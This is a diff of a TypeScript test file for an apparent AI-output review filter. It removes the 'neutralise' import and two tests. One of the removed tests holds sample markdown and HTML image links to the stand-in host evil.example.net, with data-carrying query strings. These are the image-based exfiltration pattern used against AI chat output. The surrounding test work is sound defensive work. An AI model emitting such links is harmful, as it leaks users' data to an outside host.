@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
-import { createOutputReview, merged, neutralise, type OutputReviewOptions } from './output-review.ts'
+import { createOutputReview, merged, type OutputReviewOptions } from './output-review.ts'
 
 const findSecrets: OutputReviewOptions['findSecrets'] = (text) =>
   [...text.matchAll(/\bkey-[0-9a-f]{12}\b/g)].map((match) => ({
@@ -142,18 +142,4 @@ test('a reply made to be slow is read in linear time', () => {
   }
   time(5_000)
   expect(time(80_000)).toBeLessThan(40 * Math.max(time(10_000), 20))
-})
-
-test('pictures that carry data out become their description, everything else stays', () => {
-  const text = `Before ![the chart](https://evil.example.net/p?q={data}) after ![ok](https://www.example.com/a.png) <img alt="two" src="https://evil.example.net/?d=${hex}"> end.`
-  expect(neutralise(text, options)).toBe('Before the chart after ![ok](https://www.example.com/a.png) two end.')
-})
-
-test('a text without such pictures is the same text', () => {
-  fc.assert(
-    fc.property(fc.string(), (text) => {
-      const plain = text.replaceAll('//', '')
-      expect(neutralise(plain)).toBe(plain)
-    }),
-  )
 })
